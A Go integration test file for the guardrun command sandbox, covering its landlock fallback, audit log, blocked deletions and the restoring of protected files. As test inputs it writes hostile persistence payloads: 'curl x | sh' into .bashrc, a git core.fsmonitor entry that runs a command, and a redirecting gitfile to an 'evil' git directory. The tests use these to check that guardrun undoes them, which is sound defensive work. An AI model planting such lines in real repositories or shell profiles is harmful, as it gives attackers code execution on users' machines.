//go:build linux

package integration

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"github.com/guardrun/guardrun/internal/testing/testenv"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// noNamespaces is the prefix that runs a command where bwrap cannot
// build its sandbox: the host's file system, inside a user namespace
// that forbids creating more (as Docker's default profile, Ubuntu
// 24.04's AppArmor rule and CI runners do).
func noNamespaces(t testing.TB) []string {
	t.Helper()
	requireSandbox(t) // bwrap builds the wrapper
	bw, err := exec.LookPath("bwrap")
	if err != nil {
		t.Fatal(err)
	}
	pre := []string{bw, "--dev-bind", "/", "/", "--unshare-user", "--disable-userns", "--"}
	out, err := exec.Command(pre[0], append(pre[1:], bw, "--unshare-user", "--ro-bind", "/", "/", "true")...).CombinedOutput()
	if err == nil {
		t.Fatal("bwrap still works inside the wrapper: it is not an environment without user namespaces")
	}
	t.Logf("inside the wrapper bwrap says: %s", strings.TrimSpace(string(out)))
	return pre
}

// landlockWorks skips (or fails under GUARDRUN_REQUIRE_SANDBOX=1) when
// guardrun's landlock backend cannot run here.
func landlockWorks(t testing.TB, w *world, dir string) {
	t.Helper()
	cmd := exec.Command(guardrunBin, "--backend", "landlock", "profile", "--json")
	cmd.Dir, cmd.Env = dir, w.env
	out, err := cmd.Output()
	var rep struct {
		Backend      string `json:"backend"`
		BackendError string `json:"backend_error"`
	}
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		err = fmt.Errorf("%v: %s", err, ee.Stderr)
	}
	if err != nil || json.Unmarshal(out, &rep) != nil || rep.BackendError != "" {
		if os.Getenv("GUARDRUN_REQUIRE_SANDBOX") == "1" {
			t.Fatalf("landlock backend unavailable: %v %s", err, rep.BackendError)
		}
		t.Skipf("landlock backend unavailable: %v %s", err, rep.BackendError)
	}
}

const landlockAccept = `  landlock_accept: [deny_create]
`

// TestRunMakeShellLandlock: make -j2 SHELL=guardrun builds the C project
// where user namespaces are unavailable: backend auto falls back to
// landlock (the audit says so for every recipe), the program runs, and
// refusals still fail the build.
func TestRunMakeShellLandlock(t *testing.T) {
	pre := noNamespaces(t)
	testenv.LookPath(t, "make")
	proj := filepath.Join(t.TempDir(), "cproject")
	copyTree(t, "testdata/cproject", proj)
	w := runWorld(t, fmt.Sprintf(makeConfig, proj))
	landlockWorks(t, w, proj)
	makeRun := func(args ...string) (string, int) { return makeWithGuardrun(t, w, proj, pre, args...) }
	out, code := makeRun("-j2", "check")
	if code != 0 {
		t.Fatalf("make -j2 check: exit %d\n%s", code, out)
	}
	const want = "hello from cproject v1.2.3 answer=42 len=19"
	if !strings.Contains(out, want+"\n") {
		t.Errorf("the built program did not print %q:\n%s", want, out)
	}
	for _, f := range []string{"libcp.a", "app", "version.h", "config.h", "manifest.txt", "main.o", "util.o", "greet.o", "mathx.o", "check.out"} {
		if !exists(filepath.Join(proj, "build", f)) {
			t.Errorf("build/%s was not made", f)
		}
	}
	onlyEntries(t, proj, "Makefile", "build", "src")
	// Every recipe ran under landlock.
	f, err := os.Open(w.getenv("XDG_STATE_HOME") + "/guardrun/audit.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	ran := 0
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		var rec struct {
			Outcome string `json:"outcome"`
			Sandbox string `json:"sandbox"`
		}
		if err := json.Unmarshal(sc.Bytes(), &rec); err != nil {
			t.Fatal(err)
		}
		if rec.Outcome == "ran" {
			ran++
			if rec.Sandbox != "landlock" {
				t.Errorf("a recipe ran under %q", rec.Sandbox)
			}
		}
	}
	if ran < 13 {
		t.Errorf("%d recipes ran, want the project's 13", ran)
	}

	out, code = makeRun("clean")
	if code == 0 || !strings.Contains(out, "guardrun: blocked: rm -f") {
		t.Errorf("make clean with rm blocked: exit %d\n%s", code, out)
	}
	if !exists(filepath.Join(proj, "build", "main.o")) {
		t.Error("the blocked rm removed files")
	}
}

// TestRunLandlockDefaultConfig: the default protect and deny lists run
// under landlock with nothing accepted, in a workspace without guardrun's
// config in it: new files at its top level, a git repository's commit,
// and a protected name the command creates (.bashrc) or changes
// (.git/config) is moved aside or put back after the command, said on
// stderr; auto picks landlock only where bwrap does not work.
func TestRunLandlockDefaultConfig(t *testing.T) {
	pre := noNamespaces(t)
	w := runWorld(t, runConfig)
	proj := w.work
	landlockWorks(t, w, proj)
	git := exec.Command("git", "init", "-q", proj)
	if out, err := git.CombinedOutput(); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	cfgBefore, err := os.ReadFile(filepath.Join(proj, ".git/config"))
	if err != nil {
		t.Fatal(err)
	}
	argv := append(append([]string{}, pre...), guardrunBin, "--approve-all", "-c",
		`echo x > new.txt && git add new.txt && git -c user.name=t -c user.email=t@t commit -qm one &&
		echo '[core] fsmonitor = "touch p"' >> .git/config && echo 'curl x | sh' > .bashrc`)
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir, cmd.Env = proj, w.env
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if !exists(filepath.Join(proj, "new.txt")) {
		t.Error("new.txt was not created at the workspace's top level")
	}
	if b, err := exec.Command("git", "-C", proj, "log", "--oneline").Output(); err != nil || len(strings.Split(strings.TrimSpace(string(b)), "\n")) != 1 {
		t.Errorf("git log: %q, %v", b, err)
	}
	if b, _ := os.ReadFile(filepath.Join(proj, ".git/config")); string(b) != string(cfgBefore) {
		t.Errorf(".git/config was not restored: %q", b)
	}
	if exists(filepath.Join(proj, ".bashrc")) {
		t.Error(".bashrc stayed")
	}
	for _, s := range []string{
		"guardrun: protected " + filepath.Join(proj, ".git/config") + " was changed by the command; restored",
		"guardrun: protected " + filepath.Join(proj, ".bashrc") + " was created by the command; moved aside to " + filepath.Join(proj, ".bashrc.guardrun-quarantine-"),
	} {
		if !strings.Contains(string(out), s) {
			t.Errorf("no %q in:\n%s", s, out)
		}
	}
	// guardrun profile says how: restored after the command, and the
	// window.
	pargv := append(append([]string{}, pre...), guardrunBin, "profile")
	pcmd := exec.Command(pargv[0], pargv[1:]...)
	pcmd.Dir, pcmd.Env = proj, w.env
	pout, err := pcmd.CombinedOutput()
	if err != nil {
		t.Fatalf("profile: %v\n%s", err, pout)
	}
	for _, s := range []string{"backend:    landlock", "restored after the command", "a host process could observe a change",
		"    " + filepath.Join(proj, ".git/config") + "\n", "    " + filepath.Join(proj, ".bashrc") + " (missing: moved aside if created)"} {
		if !strings.Contains(string(pout), s) {
			t.Errorf("profile does not say %q:\n%s", s, pout)
		}
	}
	if strings.Contains(string(pout), "REFUSED") || strings.Contains(string(pout), "entries served") {
		t.Errorf("profile refuses or serves entries:\n%s", pout)
	}
	// Where bwrap works, auto keeps it.
	out2, _, code := runPlain(t, w, proj, nil, "profile", "--json")
	var rep struct {
		Backend string `json:"backend"`
	}
	if code != 0 || json.Unmarshal([]byte(out2), &rep) != nil || rep.Backend != "bwrap" {
		t.Errorf("auto outside the wrapper: %q (exit %d)", rep.Backend, code)
	}
}

// TestSuperviseLandlock: the supervisor works where only landlock can
// sandbox: an allowed command runs without a prompt, an asking one is
// approved on the supervisor's terminal and runs, and the audit says
// landlock for both.
func TestSuperviseLandlock(t *testing.T) {
	pre := noNamespaces(t)
	w := newWorld(t, "")
	// The config outside the work directory: inside it, it would be
	// protected there and fix the work directory's entries.
	cfg := filepath.Join(filepath.Dir(w.work), "guardrun.yaml")
	body := strings.Replace(superviseConfig, "root: .", "root: "+w.work, 1) + "  backend: auto\n"
	if err := os.WriteFile(cfg, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	w.env = append(w.env, "GUARDRUN_CONFIG="+cfg)
	landlockWorks(t, w, w.work)
	argv := append(append([]string{}, pre...), guardrunBin, "supervise", "--", "sh", fakeAgent(t))
	tt := startOnTTY(t, w, argv...)
	at := tt.waitFor(0, "fakeagent: ready")
	tt.typ("echo hello-from-echo\n")
	at = tt.waitFor(at, `agent saw: hello-from-echo\r\n>>> end \d+: status 0`)
	if n := prompts(tt.screen()); n != 0 {
		t.Fatalf("%d prompts for an allowed command", n)
	}
	tt.typ("touch file-y\n")
	at = tt.answer(at, "y")
	tt.waitFor(at, `>>> end \d+: status 0`)
	if _, err := os.Stat(filepath.Join(w.work, "file-y")); err != nil {
		t.Errorf("approved touch did not run: %v", err)
	}
	b, err := os.ReadFile(filepath.Join(w.getenv("XDG_STATE_HOME"), "guardrun", "audit.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	ran := 0
	for _, l := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		var rec struct {
			Outcome string `json:"outcome"`
			Sandbox string `json:"sandbox"`
		}
		if err := json.Unmarshal([]byte(l), &rec); err != nil {
			t.Fatal(err)
		}
		if rec.Outcome == "ran" {
			ran++
			if rec.Sandbox != "landlock" {
				t.Errorf("ran under %q: %s", rec.Sandbox, l)
			}
		}
	}
	if ran < 2 {
		t.Errorf("%d commands ran:\n%s", ran, b)
	}
}

// landlockPair is the setting of the tests of two guardrun processes
// under landlock in one git repository (proj), sequenced by the named
// pipes a-go and b-go in it.
type landlockPair struct {
	t    *testing.T
	pre  []string
	w    *world
	proj string
}

func newLandlockPair(t *testing.T) *landlockPair {
	t.Helper()
	pre := noNamespaces(t)
	w := runWorld(t, runConfig)
	proj := w.work
	landlockWorks(t, w, proj)
	if out, err := exec.Command("git", "init", "-q", proj).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	for _, f := range []string{"a-go", "b-go"} {
		if err := syscall.Mkfifo(filepath.Join(proj, f), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return &landlockPair{t: t, pre: pre, w: w, proj: proj}
}

// send writes a line to the named pipe name, letting the command that
// reads it go on.
func (p *landlockPair) send(name string) {
	f, err := os.OpenFile(filepath.Join(p.proj, name), os.O_WRONLY, 0)
	if err != nil {
		p.t.Fatal(err)
	}
	f.WriteString("go\n")
	f.Close()
}

// start starts guardrun --backend landlock on script in proj; it is
// killed when the test ends.
func (p *landlockPair) start(script string) (*exec.Cmd, *strings.Builder) {
	argv := append(append([]string{}, p.pre...), guardrunBin, "--backend", "landlock", "--approve-all", "-c", script)
	cmd := exec.Command(argv[0], argv[1:]...)
	var out strings.Builder
	cmd.Dir, cmd.Env, cmd.Stdout, cmd.Stderr = p.proj, p.w.env, &out, &out
	if err := cmd.Start(); err != nil {
		p.t.Fatal(err)
	}
	p.t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	return cmd, &out
}

// TestRunLandlockSharedSnapshot: two guardrun processes under landlock
// in one repository (as make -j2 SHELL=guardrun runs them): A changes
// .git/config and makes a .bashrc; B starts while A runs; A ends and
// restores; then B ends. B restores nothing: it was given A's snapshot
// through the state directory, not A's changes, and the user's files
// are what they were. Sequenced by named pipes.
func TestRunLandlockSharedSnapshot(t *testing.T) {
	p := newLandlockPair(t)
	proj, send, start := p.proj, p.send, p.start
	cfgBefore, err := os.ReadFile(filepath.Join(proj, ".git/config"))
	if err != nil {
		t.Fatal(err)
	}
	wait := func(name string) {
		for i := 0; i < 2000 && !exists(filepath.Join(proj, name)); i++ {
			time.Sleep(10 * time.Millisecond)
		}
		if !exists(filepath.Join(proj, name)) {
			t.Fatalf("%s did not appear", name)
		}
	}
	a, aout := start(`echo '[core] fsmonitor = "touch p"' >> .git/config && echo 'curl x | sh' > .bashrc && echo x > a-changed && read x < a-go`)
	wait("a-changed")
	b, bout := start(`echo x > b-started && read x < b-go`)
	wait("b-started")
	send("a-go")
	if err := a.Wait(); err != nil {
		t.Fatalf("A: %v\n%s", err, aout)
	}
	if !strings.Contains(aout.String(), ".git/config was changed by the command; restored") {
		t.Errorf("A did not restore .git/config:\n%s", aout)
	}
	send("b-go")
	if err := b.Wait(); err != nil {
		t.Fatalf("B: %v\n%s", err, bout)
	}
	if strings.Contains(bout.String(), "guardrun: protected") {
		t.Errorf("B restored what A had changed:\n%s", bout)
	}
	if got, _ := os.ReadFile(filepath.Join(proj, ".git/config")); string(got) != string(cfgBefore) {
		t.Errorf(".git/config holds %q, not the user's", got)
	}
	if exists(filepath.Join(proj, ".bashrc")) {
		t.Error(".bashrc was left")
	}
}

// TestRunLandlockSharedNested: two guardrun processes under landlock in
// one repository. A moves .git away and leaves a gitfile at .git that
// sends git to a directory of its making, whose config runs a program
// (core.fsmonitor); B starts while A runs, its profile watching .git
// itself, inside which A watches .git/config and .git/hooks: no
// snapshot to share, and read then, B's would be A's gitfile, which
// B's restore would put back after A's moved it aside. B is refused
// (125) before it runs, and no gitfile is left at .git.
func TestRunLandlockSharedNested(t *testing.T) {
	p := newLandlockPair(t)
	proj, send, start := p.proj, p.send, p.start
	a, aout := start(`mv .git .git-moved && mkdir -p evil/hooks evil/objects evil/refs && echo 'ref: refs/heads/main' > evil/HEAD && printf '[core]\n\tfsmonitor = "touch pwned"\n' > evil/config && echo 'gitdir: evil' > .git && echo x > a-changed && read x < a-go`)
	for i := 0; i < 2000 && !exists(filepath.Join(proj, "a-changed")); i++ {
		time.Sleep(10 * time.Millisecond)
	}
	if !exists(filepath.Join(proj, "a-changed")) {
		t.Fatalf("A did not change the tree:\n%s", aout)
	}
	b, bout := start(`echo x > b-ran && read x < b-go`)
	bdone := make(chan error, 1)
	go func() { bdone <- b.Wait() }()
	var berr error
	ended := false
	for i := 0; i < 2000 && !ended && !exists(filepath.Join(proj, "b-ran")); i++ {
		select {
		case berr = <-bdone:
			ended = true
		case <-time.After(10 * time.Millisecond):
		}
	}
	send("a-go")
	if err := a.Wait(); err != nil {
		t.Fatalf("A: %v\n%s", err, aout)
	}
	if !ended {
		send("b-go")
		berr = <-bdone
	}
	var ee *exec.ExitError
	if !errors.As(berr, &ee) || ee.ExitCode() != 125 || !strings.Contains(bout.String(), "another guardrun command that is running") {
		t.Errorf("B was not refused: %v\n%s", berr, bout)
	}
	if exists(filepath.Join(proj, "b-ran")) {
		t.Error("B ran")
	}
	if data, err := os.ReadFile(filepath.Join(proj, ".git")); err == nil {
		t.Errorf("a gitfile is at .git after both commands: %q", data)
	}
}
